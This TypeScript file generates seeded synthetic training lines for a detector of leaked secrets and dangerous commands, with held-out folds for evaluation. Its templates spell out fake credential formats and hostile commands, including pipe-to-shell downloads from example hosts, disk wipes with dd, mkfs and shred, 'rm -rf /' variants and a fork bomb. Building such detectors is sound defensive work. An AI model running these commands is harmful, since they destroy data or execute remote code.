/**
 * Data recipe of `models/secrets.onnx`: lines made from templates with random values from a seeded generator.
 * Templates fall into five folds by their index. Fold 4 is never trained on and never used to choose anything;
 * fold 3 chooses the thresholds.
 */
/** xorshift32: small, seeded, the same everywhere. */
export function generator(seed: number) {
  let x = seed >>> 0;
  const next = () => {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    return x / 2 ** 32;
  };
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
  const chars = (set: string, n: number) =>
    Array.from({ length: n }, () => set[Math.floor(next() * set.length)]).join('');
  return { next, pick, chars };
}
type Random = ReturnType<typeof generator>;

const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const ALNUM = B64.slice(0, 62);
const HEX = '0123456789abcdef';
const WORDS =
  'route table update subnet gateway backend frontend replicas timeout healthy public private region west north service port name version enabled owner team billing deploy release build cache queue worker'.split(
    ' ',
  );
const PATHS = ['/', '/etc', '/usr', '/var', '/home', '~', '/*', '/boot', '/opt/data', '/srv'];

const some = (r: Random, n: number) => Array.from({ length: n }, () => r.pick(WORDS)).join(' ');
const name = (r: Random) => `${r.pick(WORDS)}-${r.pick(WORDS)}-${Math.floor(r.next() * 90 + 10)}`;

const SECRETS: readonly ((r: Random) => string)[] = [
  (r) => `password = ${r.chars(ALNUM, 14)}!`,
  (r) => `${r.pick(WORDS).toUpperCase()}_API_KEY=${r.chars(ALNUM, 40)}`,
  (r) => `AKIA${r.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}`,
  (r) => `aws_secret_access_key: ${r.chars(B64, 40)}`,
  (r) => `Authorization: Bearer ${r.chars(ALNUM, 60)}`,
  (r) => `ghp_${r.chars(ALNUM, 36)}`,
  (r) => `"client_secret": "${r.chars(`${ALNUM}~_.`, 40)}"`,
  (r) => `AccountKey=${r.chars(B64, 86)}==;EndpointSuffix=core.windows.net`,
  (r) => `postgres://${r.pick(WORDS)}:${r.chars(ALNUM, 16)}@db.internal:5432/${r.pick(WORDS)}`,
  (r) => `token: xoxb-${r.chars('0123456789', 12)}-${r.chars(ALNUM, 24)}`,
  (r) => `-----BEGIN RSA PRIVATE KEY----- MII${r.chars(B64, 60)}`,
  (r) => `export ${r.pick(WORDS).toUpperCase()}_TOKEN='${r.chars(ALNUM, 32)}'`,
  (r) => `eyJhbGciOiJIUzI1NiJ9.${r.chars(ALNUM, 50)}.${r.chars(ALNUM, 43)}`,
  (r) => `db_password: "${r.chars(`${ALNUM}#%&!`, 18)}"`,
  (r) => `secret_key = "${r.chars(HEX, 64)}"`,
  (r) => `--admin-password ${r.chars(ALNUM, 16)}`,
  (r) => `x-api-key: ${r.chars(ALNUM, 32)}`,
  (r) => `SharedAccessSignature sig=${r.chars(ALNUM, 43)}%3D&se=1790000000`,
];

const DANGEROUS: readonly ((r: Random) => string)[] = [
  (r) => `rm -rf ${r.pick(PATHS)}`,
  (r) => `sudo rm -r -f ${r.pick(PATHS)} --no-preserve-root`,
  (r) => `dd if=/dev/zero of=/dev/sd${r.pick(['a', 'b', 'c'])} bs=1M`,
  (r) => `mkfs.${r.pick(['ext4', 'xfs', 'btrfs'])} /dev/nvme0n${r.pick(['1', '2'])}`,
  (r) => `curl -fsSL http://${r.pick(WORDS)}.example.com/install | sudo bash`,
  (r) => `wget -qO- https://${r.pick(WORDS)}.example.net/x.sh | sh`,
  (r) => `chmod -R 777 ${r.pick(PATHS)}`,
  (r) => `DROP ${r.pick(['TABLE', 'DATABASE'])} ${r.pick(WORDS)};`,
  (r) => `terraform destroy -auto-approve -target=${r.pick(WORDS)}`,
  (r) => `az group delete --name ${name(r)} --yes --no-wait`,
  (r) => `kubectl delete namespace ${name(r)} --force`,
  () => ':(){ :|:& };:',
  (r) => `shutdown -h now # ${some(r, 2)}`,
  (r) => `rm -fr ${r.pick(PATHS)}/* && echo done`,
  (r) => `git push --force origin ${r.pick(['main', 'master', 'release'])}`,
  (r) => `shred -u -z /dev/sd${r.pick(['a', 'b'])}`,
  (r) => `az storage account delete -n ${r.pick(WORDS)} -g ${name(r)} -y`,
  (r) => `find ${r.pick(PATHS)} -name "*" -delete`,
];

const HARMLESS: readonly ((r: Random) => string)[] = [
  (r) => some(r, 6),
  (r) => `${r.pick(WORDS)}: ${r.pick(WORDS)}`,
  (r) => `az network route-table route show --name ${name(r)} -g ${name(r)}`,
  (r) => `ping -c 4 10.${Math.floor(r.next() * 255)}.0.${Math.floor(r.next() * 255)}`,
  (r) => `# ${some(r, 8)}`,
  (r) =>
    `"${r.pick(WORDS)}_id": "${r.chars(HEX, 8)}-${r.chars(HEX, 4)}-${r.chars(HEX, 4)}-${r.chars(HEX, 4)}-${r.chars(HEX, 12)}"`,
  (r) => `sha256:${r.chars(HEX, 64)}`,
  (r) => `commit ${r.chars(HEX, 40)}`,
  (r) => `import { ${r.pick(WORDS)} } from './${r.pick(WORDS)}.ts';`,
  (r) => `ls -la /var/log/${r.pick(WORDS)}`,
  (r) => `git commit -m "${some(r, 4)}"`,
  (r) => `cp ${r.pick(WORDS)}.yaml ${r.pick(WORDS)}.yaml.bak`,
  (r) => `kubectl get pods -n ${name(r)} -o wide`,
  (r) => `+  timeout: ${Math.floor(r.next() * 600)}s`,
  (r) =>
    `SELECT ${r.pick(WORDS)}, ${r.pick(WORDS)} FROM ${r.pick(WORDS)} WHERE id = ${Math.floor(r.next() * 9999)};`,
  (r) => `https://docs.example.org/${r.pick(WORDS)}/${r.pick(WORDS)}#${r.pick(WORDS)}`,
  (r) => `"integrity": "sha512-${r.chars(B64, 86)}=="`,
  (r) => `terraform plan -out=${r.pick(WORDS)}.tfplan`,
  (r) => `the password must be changed by the ${r.pick(WORDS)} team`,
  (r) => `rm ${r.pick(WORDS)}.tmp`,
  (r) => `chmod 644 ${r.pick(WORDS)}.conf`,
  (r) => `curl -s https://${r.pick(WORDS)}.example.org/health`,
  (r) => `secrets: [${r.pick(WORDS).toUpperCase()}_TOKEN]`,
  (r) => `password: \${${r.pick(WORDS).toUpperCase()}_PASSWORD}`,
  (r) => `kubectl rollout restart deployment/${name(r)}`,
];

export interface Line {
  readonly text: string;
  readonly labels: readonly [number, number];
}

export const LABELS = ['secret', 'dangerous command'] as const;

export function lines(seed: number, folds: readonly number[], each: number): readonly Line[] {
  const r = generator(seed);
  const make = (templates: readonly ((r: Random) => string)[], labels: readonly [number, number]) =>
    templates
      .filter((_, i) => folds.includes(i % 5))
      .flatMap((template) => Array.from({ length: each }, () => ({ text: around(r, template(r)), labels })));
  return [...make(SECRETS, [1, 0]), ...make(DANGEROUS, [0, 1]), ...make(HARMLESS, [0, 0])];
}

/** What training never sees: other forms, other values. */
export function heldOut(): readonly Line[] {
  return lines(4242, [4], 60);
}

/** Lines seldom stand bare: indentation, diff signs, prompts. */
function around(r: Random, text: string): string {
  return `${r.pick(['', '', '', '+ ', '  - ', '$ ', 'run: ', '> '])}${text}`;
}
